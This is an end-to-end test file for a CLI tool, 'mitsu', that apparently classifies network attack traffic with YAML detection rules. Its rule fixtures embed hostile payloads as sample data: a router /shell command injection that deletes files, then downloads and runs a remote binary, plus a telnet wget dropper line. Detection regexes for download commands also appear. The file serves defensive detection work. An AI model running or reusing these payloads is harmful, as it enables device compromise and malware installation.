// End to end: `node bin/mitsu.js rules test` and `rules list` from the built CLI, on rule
// folders written here (one rule that passes, one that fails, one file that does not load)
// and on the rule set shipped in rules/.

import { mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ROOT, runCli, tempDir } from './helpers/sensor.js';

const dir = tempDir('mitsu-rules-e2e-');

const PASSING = `
- id: local-shell-probe
  name: GET /shell command injection probe
  description:
    en: Asks a router's /shell endpoint to run a command.
    ja: ルーターの /shell にコマンドを実行させようとする。
  intent: exploit
  protocol: http
  match:
    all:
      - {in: field:path, equals: /shell}
      - {in: text, regex: "wget[+ ]http://"}
  examples:
    - port: 80
      payload: "GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws HTTP/1.1\\r\\nHost: 203.0.113.10:80\\r\\nUser-Agent: Hello, world\\r\\n\\r\\n"
  counter_examples:
    - port: 80
      payload: "GET /shell HTTP/1.1\\r\\nHost: 203.0.113.10\\r\\n\\r\\n"
`;

const FAILING = `
- id: local-wrong-port-rule
  name: Redis INFO
  description: {en: Asks Redis for its INFO., ja: Redis に INFO を問い合わせる。}
  intent: scan
  protocol: redis
  match: {in: commands, equals: INFO}
  examples:
    - port: 6379
      payload: "*1\\r\\n$4\\r\\nPING\\r\\n"
`;

/** A counted repeat after a word that recurs: RE2 tracks hundreds of positions at once. */
const SLOW = `
- id: local-slow-dropper
  name: Download command
  description: {en: Downloads a file., ja: ファイルをダウンロードする。}
  intent: malware-download
  match: {in: text, regex: '(?i)\\b(?:wget|curl)\\b[^\\n]{0,300}https?://'}
  examples:
    - {port: 23, payload: "cd /tmp; wget http://198.51.100.7/bins/x86; chmod 777 x86\\r\\n"}
`;

function folder(name: string, files: Record<string, string>): string {
  const path = join(dir, name);
  mkdirSync(path);
  for (const [file, text] of Object.entries(files)) writeFileSync(join(path, file), text);
  return path;
}

describe('mitsu rules test', () => {
  it('exits 1 and names the failing rule, its example and the tags it got', () => {
    const rules = folder('mixed', { 'a-pass.yaml': PASSING, 'b-fail.yml': FAILING });
    const out = runCli(['rules', 'test', '--no-builtin', '--rules', rules]);
    expect(out.stderr).toBe('');
    expect(out.code).toBe(1);
    const lines = out.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[0]).toBe(`FAIL local-wrong-port-rule example 1 (${join(rules, 'b-fail.yml')}): ` +
      'should match, got no tags');
    expect(lines[1]).toMatch(/^2 rules, 2 examples, 1 counter-examples: 1 failed \(rules version [0-9a-f]{12}\)$/);
  });

  it('exits 0 when every example and counter-example comes out right', () => {
    const rules = folder('passing', { 'rules.yaml': PASSING });
    const out = runCli(['rules', 'test', '--no-builtin', '--rules', rules]);
    expect(out.stderr).toBe('');
    expect(out.code).toBe(0);
    expect(out.stdout).toMatch(/^1 rules, 1 examples, 1 counter-examples: all pass/);
  });

  it('exits 1 naming a rule that is slow on hostile payloads, unless told not to time', () => {
    const rules = folder('slow', { 'rules.yaml': SLOW });
    const out = runCli(['rules', 'test', '--no-builtin', '--rules', rules]);
    expect(out.code).toBe(1);
    expect(out.stdout).toMatch(/^SLOW local-slow-dropper: [\d.]+ ms on the hostile payload "/m);
    expect(out.stdout).toMatch(/counter-examples: \d+ slow \(rules version/);
    const untimed = runCli(['rules', 'test', '--no-builtin', '--no-timing', '--rules', rules]);
    expect(untimed.code).toBe(0);
    expect(untimed.stdout).toContain('all pass');
  });

  it('exits 2 with one line naming the file, rule and key of a rule that does not load', () => {
    const rules = folder('broken', { 'rules.yaml': PASSING.replace('intent:', 'intnet:') });
    const out = runCli(['rules', 'test', '--no-builtin', '--rules', rules]);
    expect(out.code).toBe(2);
    expect(out.stdout).toBe('');
    expect(out.stderr).toBe(`mitsu: ${join(rules, 'rules.yaml')}: rule "local-shell-probe": ` +
      'unknown key intnet; remove it or fix its spelling; see docs/rules.md for the rule ' +
      'format (MITSU_CONFIG_INVALID)\n');
  });
});

describe('mitsu rules list', () => {
  it('prints the given rules as JSON with the rule set version', () => {
    const rules = folder('listed', { 'rules.yaml': PASSING });
    const out = runCli(['rules', 'list', '--json', '--no-builtin', '--rules', rules]);
    expect(out.code).toBe(0);
    const listed = JSON.parse(out.stdout) as { version: string; rules: { id: string }[] };
    expect(listed.version).toMatch(/^[0-9a-f]{12}$/);
    expect(listed.rules).toMatchObject([{ id: 'local-shell-probe', intent: 'exploit',
      description: { ja: 'ルーターの /shell にコマンドを実行させようとする。' } }]);
  });

  const shipped = readdirSync(join(ROOT, 'rules')).filter((f) => /\.ya?ml$/.test(f));
  it.skipIf(shipped.length === 0)('finds the rules shipped in rules/ from the built CLI ' +
    '(skipped while rules/ holds no rule file)', () => {
    const out = runCli(['rules', 'list']);
    expect(out.stderr).toBe('');
    expect(out.code).toBe(0);
    const ids = out.stdout.trimEnd().split('\n').map((line) => line.split(/\s+/)[0]);
    expect(ids.length).toBeGreaterThan(0);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids.every((id) => /^[a-z0-9]+(?:-[a-z0-9]+)*$/.test(id!))).toBe(true);
  });
});
